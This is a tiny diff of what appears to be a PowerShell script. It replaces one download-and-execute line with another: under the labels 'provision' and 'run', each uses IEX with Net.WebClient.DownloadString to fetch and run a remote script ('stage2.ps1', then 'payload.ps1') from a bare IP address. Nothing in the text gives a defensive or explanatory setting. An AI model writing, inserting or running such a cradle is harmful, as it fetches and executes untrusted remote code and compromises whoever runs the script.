@@ -1,2 +1,2 @@
-# provision 2749 v3
-IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/stage2.ps1')
+# run 5245 v3
+IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/payload.ps1')
